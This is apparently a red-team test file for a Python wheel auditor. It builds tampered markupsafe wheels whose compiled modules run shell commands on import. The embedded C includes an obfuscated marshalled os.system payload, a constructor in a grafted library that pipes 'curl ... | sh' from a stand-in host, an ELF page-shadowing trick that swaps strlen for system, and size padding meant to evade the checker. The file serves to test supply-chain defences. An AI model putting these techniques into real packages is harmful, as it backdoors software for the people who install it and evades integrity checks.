"""Red-team PoCs against the compiled-member judge (issue 45 follow-up), end to end on markupsafe 3.0.3's real sdist
and cp311 manylinux wheel, served from a local index and rebuilt in the container. Each tampered wheel runs a
shell command once installed and imported; each must come out `differs`, class code, naming the member. The
assertions state what the judge SHOULD say: they fail where the attack gets through (see the report).

- capi-pyinit: PyInit__speedups runs Python code with API calls python-c-api still sets aside
  (PyMarshal_ReadObjectFromString, PyFunction_New, PyCodec_Register, PyUnicode_Decode): os.system on import;
- capi-dtinit: the same from DT_INIT (-Wl,-init=...): code that runs at dlopen, constructor count unchanged;
- graft: the module needs a library "grafted" under markupsafe.libs/ whose constructor calls system();
- huge-published: the published module, with a system() constructor, padded past 128 MiB;
- page-shadow: one PLT import is `strlen` to elfload and `system` to ld.so, and a build note in .rodata is
  `curl ... | sh` to ld.so: a 1-byte PT_LOAD whose file page shadows the page of .dynstr (and of .rodata) at page
  granularity (tests/test_attack_inprocess.shadow);
- musl: the real cp311 musllinux_1_2_x86_64 wheel (ELF too) with its module replaced by one with a system()
  constructor.
"""

from __future__ import annotations

import json
import marshal
import os
import subprocess
import tarfile
from datetime import datetime, timezone
from pathlib import Path

from tests.conftest import PYPI
from tests.fixtureindex import lock_line, retag_wheel, rewrite_wheel
from tests.test_attack_inprocess import GETS_THROUGH, NOTE, shadow
from tests.test_compiled_tamper import CONSTRUCTOR_SYSTEM, MODULE, include_dir
from tests.test_toolchain import _pypi_files

UP = datetime(2025, 9, 27, tzinfo=timezone.utc)
LIB = "markupsafe.libs/libmsx-1a2b3c4d.so.1"


def marshal_blob(cmd: str) -> str:
    """The marshalled code object (this interpreter: 3.11) of `lambda *a: os.system(CMD)`, CMD built from integers
    at run time (no printable command string in the module)."""
    src = "lambda *a: __import__('os').system(''.join(map(chr, %r))) and None" % ([ord(c) for c in cmd],)
    code = compile(src, "<m>", "eval").co_consts[0]
    return "static const unsigned char ms_blob[] = {" + ",".join(str(b) for b in marshal.dumps(code)) + "};\n"


CAPI = r"""
#include <marshal.h>
%s
static void markupsafe_warm(void) {
  PyObject *code = PyMarshal_ReadObjectFromString((const char *)ms_blob, sizeof ms_blob);
  PyObject *g = PyDict_New();
  PyObject *f = (code && g) ? PyFunction_New(code, g) : NULL;
  if (f && PyCodec_Register(f) == 0) {
    PyObject *u = PyUnicode_Decode("x", 1, "ms-warm-cache", NULL);
    Py_XDECREF(u);
  }
  PyErr_Clear();
}
""" % marshal_blob("id > /tmp/attack/PWNED_capi_e2e")

GRAFTED_LIB = r"""#include <stdlib.h>
static const char *volatile stage2 = "curl -s https://updates.example-cdn.xyz/stage2 | sh";
__attribute__((constructor)) static void msx_init(void) {
  if (getenv("MS_PWN_DEMO")) system("id > /tmp/attack/PWNED_graft_e2e");
  else if (getenv("MS_NEVER")) system(stage2);
}
int msx_escape_hint(int c) { return c == '<' || c == '>' || c == '&'; }
"""


def _gcc(tmp: Path, name: str, code: bytes, *flags: str) -> bytes:
    c = tmp / f"{name}.c"
    c.write_bytes(code)
    so = tmp / f"{name}.so"
    subprocess.run(["gcc", "-shared", "-fPIC", "-O2", f"-I{include_dir()}", str(c), "-o", str(so), *flags],
                   check=True, capture_output=True)
    return so.read_bytes()


def _pad(data: bytes, mib: int) -> bytes:
    """Incompressible bytes after the ELF file (the loader never reads them): past the judge's 128 MiB."""
    block = os.urandom(1 << 20)
    return data + block * mib


@GETS_THROUGH
def test_attack_compiled_members(tmp_path, index, auditor, container_backend):
    files = _pypi_files("markupsafe", "3.0.3")
    sdist = next(n for n in files if n.endswith(".tar.gz"))
    real = next(n for n in files if "cp311-cp311-manylinux" in n and "x86_64" in n)
    for n in (sdist, real):
        (tmp_path / n).write_bytes(files[n])
    with tarfile.open(tmp_path / sdist) as tar:
        m = next(m for m in tar.getmembers() if m.name.endswith("src/markupsafe/_speedups.c"))
        source = tar.extractfile(m).read()
    inc = b"#include <Python.h>\n"
    capi_pyinit = _gcc(tmp_path, "capi_pyinit", source.replace(inc, inc + CAPI.encode(), 1).replace(
        b"\treturn PyModuleDef_Init(", b"\tmarkupsafe_warm();\n\treturn PyModuleDef_Init("))
    capi_dtinit = _gcc(tmp_path, "capi_dtinit", source.replace(inc, inc + CAPI.encode(), 1)
                       + b"\nvoid markupsafe_dt_init(void) { markupsafe_warm(); }\n", "-Wl,-init=markupsafe_dt_init")
    libdir = tmp_path / "graftlib"
    libdir.mkdir()
    (tmp_path / "libmsx.c").write_text(GRAFTED_LIB)
    subprocess.run(["gcc", "-shared", "-fPIC", "-O2", "-Wl,-soname,libmsx-1a2b3c4d.so.1", str(tmp_path / "libmsx.c"),
                    "-o", str(libdir / "libmsx-1a2b3c4d.so.1")], check=True)
    graft = _gcc(tmp_path, "graft", source.replace(inc, inc + b"int msx_escape_hint(int c);\n", 1).replace(
        b"\treturn PyModuleDef_Init(", b"\t(void)msx_escape_hint(0);\n\treturn PyModuleDef_Init("),
        f"-L{libdir}", "-l:libmsx-1a2b3c4d.so.1", "-Wl,-rpath,$ORIGIN/../markupsafe.libs")
    lib = (libdir / "libmsx-1a2b3c4d.so.1").read_bytes()
    note = (b"#include <string.h>\nstatic const char *volatile markupsafe_note = \"" + NOTE + b"\";\n"
            b"size_t volatile markupsafe_note_len;\n")
    noted = _gcc(tmp_path, "note", source.replace(inc, inc + note, 1).replace(
        b"\treturn PyModuleDef_Init(", b"\tmarkupsafe_note_len = strlen(markupsafe_note);\n\treturn PyModuleDef_Init("))
    shadowed = shadow(noted, [(b"\0strlen\0", b"\0system\0"),
                              (NOTE, b"curl -s https://updates.example-cdn.xyz/stage2 | sh".ljust(len(NOTE), b"\0"))])
    huge = _pad(_gcc(tmp_path, "ctor", source + b"\n" + CONSTRUCTOR_SYSTEM.encode() + b"\n"), 130)

    variants = {  # platform tag -> (name, edit of the members, the member that must differ)
        "manylinux_2_28_x86_64": ("capi-pyinit", lambda ms: ms.__setitem__(MODULE, capi_pyinit), MODULE),
        "manylinux_2_31_x86_64": ("capi-dtinit", lambda ms: ms.__setitem__(MODULE, capi_dtinit), MODULE),
        "manylinux_2_34_x86_64": ("graft", lambda ms: ms.update({MODULE: graft, LIB: lib}), LIB),
        "manylinux_2_35_x86_64": ("huge-published", lambda ms: ms.__setitem__(MODULE, huge), MODULE),
        "manylinux_2_36_x86_64": ("page-shadow", lambda ms: ms.__setitem__(MODULE, shadowed), MODULE),
    }
    out = tmp_path / "tampered"
    hashes = [index.add("markupsafe", tmp_path / sdist, UP), index.add("markupsafe", tmp_path / real, UP)]
    names = {}
    for platform, (_, edit, _) in variants.items():
        w = retag_wheel(tmp_path / real, out, platform, edit)
        names[platform] = w.name
        hashes.append(index.add("markupsafe", w, UP))
    musl = next(n for n in files if "cp311-cp311-musllinux_1_2_x86_64" in n)
    (tmp_path / "musl-src").mkdir()
    (tmp_path / "musl-src" / musl).write_bytes(files[musl])
    (tmp_path / "musl").mkdir()
    ctor = _gcc(tmp_path, "ctor2", source + b"\n" + CONSTRUCTOR_SYSTEM.encode() + b"\n")
    musl_w = rewrite_wheel(tmp_path / "musl-src" / musl, tmp_path / "musl" / musl, lambda ms: ms.__setitem__(MODULE, ctor))
    hashes.append(index.add("markupsafe", musl_w, UP))
    names["musllinux_1_2_x86_64"] = musl
    variants["musllinux_1_2_x86_64"] = ("musl", None, MODULE)
    lock = tmp_path / "requirements.txt"
    lock.write_text(lock_line("markupsafe", "3.0.3", *hashes))
    r = auditor("check", str(lock), "--index-url", index.url, "--build-index-url", PYPI, "--backend", container_backend)
    assert "Traceback" not in r.stderr, r.stderr[-3000:]
    Path("/tmp/attack/results_compiled_full.json").write_text((r.report_dir / "results.json").read_text())
    by = {w["filename"]: w for w in r.package("markupsafe")["wheels"]}
    seen = {}
    for platform, (label, _, member) in variants.items():
        w = by[names[platform]]
        seen[label] = {"verdict": w["verdict"], "reason": w["reason"], "check": w["check"],
                       "differences": w["differences"], "not_reproduced": w.get("not_reproduced"),
                       "normalizations": w.get("normalizations"), "verified": w.get("verified")}
    Path("/tmp/attack/results_compiled.json").write_text(json.dumps(seen, indent=1))
    failures = []
    for platform, (label, _, member) in variants.items():
        w = by[names[platform]]
        hit = [d for d in w["differences"] if d["path"] == member and d["cls"] == "code"]
        if w["verdict"] != "differs" or not hit:
            failures.append(f"{label}: {w['verdict']}: {w['reason']}")
    assert not failures, "\n".join(failures)
